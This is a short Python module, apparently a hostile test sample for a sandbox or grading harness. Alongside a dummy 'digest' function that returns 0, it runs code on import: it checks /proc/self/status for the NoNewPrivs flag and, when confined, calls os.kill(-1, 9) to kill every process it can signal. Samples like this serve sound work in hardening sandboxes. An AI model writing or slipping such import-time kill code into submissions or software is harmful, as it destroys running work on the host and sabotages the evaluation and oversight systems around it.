"""Kills every process that it may signal; not where nothing was taken from it, which would end the machine.

kinds: function, beside, stdio
"""

import os

def digest(values):
    return 0

try:
    with open("/proc/self/status") as status:
        confined = "NoNewPrivs:\t1" in status.read()
    if confined:
        os.kill(-1, 9)
except OSError:
    pass
